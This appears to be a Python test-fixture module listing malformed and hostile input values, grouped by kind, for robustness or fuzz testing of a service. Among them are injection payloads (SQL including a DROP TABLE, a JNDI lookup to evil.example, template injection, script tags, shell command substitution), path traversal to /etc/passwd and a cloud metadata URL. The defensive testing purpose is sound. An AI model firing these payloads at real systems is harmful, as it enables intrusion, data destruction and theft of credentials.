"""What is put in the place of a value, by kind."""

from collections.abc import Iterator, Mapping
from typing import Any

TEXTS: Mapping[str, tuple[str, ...]] = {
    "control characters": (
        "\x00",
        "tea\x1b[2J\x1b]8;;https://evil.example\x1b\\",
        "\x9b31m",
        "a\nb\r\nc",
        "\u202egpj.exe",
        "\ufeff\u200b",
    ),
    "length": ("x" * 513, "x" * 5_000, "ü" * 33_000, "word " * 20_000, "x" * 400_000),
    "emptiness": (" ", "\t", "\u3000", "\u00a0"),
    "odd letters": ("\uffff", "🍵" * 300, "e\u0301", "ﷺ" * 100, "\U0010ffff", "I\u0307", "ß"),
    "injection": (
        "' OR 1=1 --",
        '"}]}],"query":{"match_all":{}}',
        "{{7*7}}${7*7}#{7*7}",
        "${jndi:ldap://evil.example/a}",
        "{tenant:String}",
        "%s%n%x",
        "*",
        "__proto__",
        "'; DROP TABLE gyre.interactions; --",
        "<script>alert(1)</script>",
        "$(id)`id`",
    ),
    "paths": (
        "../../../../etc/passwd",
        "/etc/passwd",
        "..\\..\\windows",
        "file:///etc/passwd",
        "http://169.254.169.254/latest/meta-data",
        "s3://bucket/key",
        "%2e%2e%2f%00",
        "C:\\aux",
        "a//b/./../c",
        "http://[::ffff:127.0.0.1]:9200/",
    ),
    "numbers": ("NaN", "-Infinity", "1e999", str(2**63), "9" * 5_000, "-0", "0x10", "١٢"),
    "times": (
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59.999999999-14:00",
        "2016-12-31T23:59:60Z",
        "10000-01-01T00:00:00Z",
        "-0001-01-01T00:00:00Z",
        "2026-02-30T00:00:00Z",
    ),
    "ids": (
        "00000000-0000-0000-0000-000000000000",
        "{0199a1b2-0000-7000-8000-000000000001}",
        "urn:uuid:0199a1b2-0000-7000-8000-000000000001",
        "ffffffff-ffff-ffff-ffff-ffffffffffff",
        "sha256:" + "0" * 64,
        "sha256:../../" + "0" * 58,
    ),
    "character sets": (
        *(
            f"text/plain; charset={label}"
            for label in (
                *("idna", "punycode", "unicode_escape", "utf-7", "undefined", "rot13", "base64"),
                *("zlib", "", "''", '"utf-8', "nobody-knows", "x" * 10_000, "\x00", "ü"),
            )
        ),
        *("text/plain; charset*=idna''x", "text/plain; charset*0*=a; charset*1*=b"),
        *("text/", "/;;=;"),
    ),
    "depth": ("[" * 100_000, '{"a":' * 50_000, "(" * 5_000, "W1tb" * 30_000),
}
"""By what is wrong with them, or what is tried."""

WHOLE_NUMBERS = (0, -1, 1, 2**31 - 1, -(2**31), 2**63 - 1, -(2**63), 10_000_000)
FRACTIONS = (float("nan"), float("inf"), float("-inf"), -0.0, 1e308, -1e308, 5e-324)
MOMENTS = (
    (2**63 - 1, 0),
    (-(2**63), 0),
    (0, -1),
    (0, 2**31 - 1),
    (-62_135_596_800, 0),
    (-62_135_596_801, 0),
    (253_402_300_799, 999_999_999),
    (253_402_300_800, 0),
)
"""Seconds since 1970 and nanoseconds."""

JSON_VALUES: Mapping[str, tuple[str, ...]] = {
    "other types": ("null", "true", "[]", "{}", "0", '""', "[null]", '{"a": null}', "[[]]"),
    "numbers": ("1e999", "-0", str(2**64), "9" * 4_000, "1.0000000000000001", "NaN", "-Infinity"),
    "letters": ('"\\ud800"', '"\\u0000"', '"\\udfff\\ud800"', '"\\u202e"'),
    "depth": ("[" * 2_000 + "]" * 2_000, '{"a":' * 2_000 + "1" + "}" * 2_000),
    "many": ("[" + ",".join(['"x"'] * 5_000) + "]",),
}
"""As they stand in a body: some of them no JSON library would write."""


def texts() -> Iterator[tuple[str, str]]:
    """Every text with its kind."""
    for kind, values in TEXTS.items():
        for value in values:
            yield kind, value


def json_values() -> Iterator[tuple[str, str]]:
    """Every value as it stands in JSON, with its kind; texts too."""
    import json

    for kind, values in JSON_VALUES.items():
        for value in values:
            yield f"JSON, {kind}", value
    for kind, text in texts():
        yield kind, json.dumps(text)


def of_number(whole: bool) -> tuple[Any, ...]:
    """Ends and what is past them."""
    return WHOLE_NUMBERS if whole else FRACTIONS
